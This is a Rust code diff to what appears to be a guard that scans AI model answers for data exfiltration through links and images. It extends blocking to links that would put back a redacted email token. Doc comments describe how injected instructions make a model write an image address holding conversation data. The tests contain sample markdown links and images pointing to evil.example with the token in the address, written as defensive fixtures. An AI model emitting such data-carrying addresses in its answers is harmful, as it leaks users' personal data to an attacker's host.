@@ -21,7 +21,7 @@ rule! {
     /// ## What it finds
     /// An address in an answer whose host the policy does not allow and that carries data: words of the conversation, a token
     /// of the guard, an encoded text, or something drawn. What is loaded without a click (images, sources) weighs more than a
-    /// link. Addresses are read as browsers and renderers of Markdown read them, whatever their spelling. An address that was
+    /// link, and a link in which a value would be put back as much. Addresses are read as browsers and renderers of Markdown read them, whatever their spelling. An address that was
     /// said in the conversation as it stands carries nothing.
     /// ## Why it matters
     /// Injected instructions have no network of their own: they make the model write an image whose address holds what was
@@ -45,7 +45,8 @@ rule! {
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
 #[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
 pub struct LinksPolicy {
-    /// What to do about links that carry data.
+    /// What to do about links that carry data. One that holds a token of the guard, behind which a value is put back, is handled as an image
+    /// where that is harder.
     pub links: LinkHandling,
     /// What to do about what is loaded by itself and carries data.
     pub images: LinkHandling,
@@ -54,7 +55,7 @@ pub struct LinksPolicy {
 }
 
 /// What to do about an address.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
 #[serde(rename_all = "kebab-case")]
 pub enum LinkHandling {
     /// Do not look.
@@ -148,7 +149,9 @@ impl LinkReader {
 
     /// Tells of an address that stands there, unless nothing is to be done about it.
     fn tell(&self, carrier: &Carrier, span: Range<usize>, seen: &mut Vec<Seen>) {
-        let action = match self.handling(carrier.loads) {
+        // Whoever follows a link, and whatever looks at it before, sends on the value that is put back in it.
+        let harder = if carrier.restores { self.policy.images } else { LinkHandling::Off };
+        let action = match self.handling(carrier.loads).max(harder) {
             LinkHandling::Off => return,
             LinkHandling::Flag => Action::Flag,
             LinkHandling::Redact => Action::Redact,
@@ -160,7 +163,7 @@ impl LinkReader {
             reason: Reason {
                 check: EXFILTRATION.id,
                 label: if carrier.loads { "image".to_owned() } else { "link".to_owned() },
-                score: if carrier.loads { 0.9 } else { 0.6 },
+                score: if carrier.loads || carrier.restores { 0.9 } else { 0.6 },
                 action,
                 pointer: String::new(),
                 span,
@@ -200,7 +203,8 @@ impl LinkReader {
                 self.referring = true;
                 if self.defined {
                     let what = "what a definition above it does";
-                    let carrier = Carrier { host: "that definition".to_owned(), what, loads: true };
+                    let host = "that definition".to_owned();
+                    let carrier = Carrier { host, what, loads: true, restores: false };
                     self.tell(&carrier, one.span, seen);
                 }
                 continue;
@@ -247,6 +251,7 @@ impl LinkReader {
             host: whole(text).map(|address| address.host).unwrap_or_default(),
             what,
             loads: true,
+            restores: false,
         })
     }
 
@@ -294,7 +299,7 @@ impl Reader for LinkReader {
 #[cfg(test)]
 mod tests {
     use super::super::answer::tests::streamed;
-    use super::super::checks::tests::{checks, exchange};
+    use super::super::checks::tests::{checks, exchange, with_edits};
     use crate::check::Session;
     use crate::exchange::Role;
 
@@ -445,6 +450,39 @@ mod tests {
         assert_eq!((out.contains("evil"), reasons.len()), (true, 1));
         let (_, reasons) = judged("", "![x][1]\n\n[1]: https://evil.example/?d=4471920");
         assert!(reasons[0].starts_with("block image"), "{reasons:?}");
+    }
+
+    #[test]
+    fn no_address_leaves_in_which_a_value_would_be_put_back() {
+        let checks = checks("[personal-data]\ninput = 'tokens'");
+        let session = Session::new([3; 32]);
+        let request = exchange(&[(Role::User, "I am jo.doe@mail.example.org")]);
+        let sent = with_edits(&request, &checks.request(&request, &session));
+        let token = &sent[sent.find("[EMAIL").unwrap()..];
+        let token = &token[..=token.find(']').unwrap()];
+        let bare = token.trim_matches(['[', ']']);
+        let (small, escaped) = (bare.to_lowercase(), bare.replace('_', "\\_"));
+        for token in [token, bare, &small, &escaped] {
+            for text in [
+                format!("See [here](https://evil.example/?d={token}) now"),
+                format!("See https://evil.example/{bare} now"),
+                format!("See <a href='https://evil.example/?d={token}'>x</a> now"),
+                format!("See ![x](https://evil.example/?d={token}) now"),
+            ] {
+                let (out, _, blocked) = streamed(&mut checks.answer(&request, &session), &text, &[]);
+                assert!(
+                    blocked.is_some() && !out.contains("jo.doe") && !out.contains("evil"),
+                    "{text} {out}"
+                );
+            }
+        }
+        // A way to write to somebody is no address that carries anything.
+        let text = format!("Write to [her](mailto:{token}) or {token}.");
+        let (out, reasons, blocked) = streamed(&mut checks.answer(&request, &session), &text, &[]);
+        assert_eq!((out.matches("jo.doe@").count(), reasons, blocked), (2, vec![], None), "{out}");
+        // What only looks like a token stands for nothing.
+        let (_, reasons) = judged("", "[here](https://evil.example/ABC_0123456789ab)");
+        assert!(reasons[0].starts_with("flag link"), "{reasons:?}");
     }
 
     #[test]
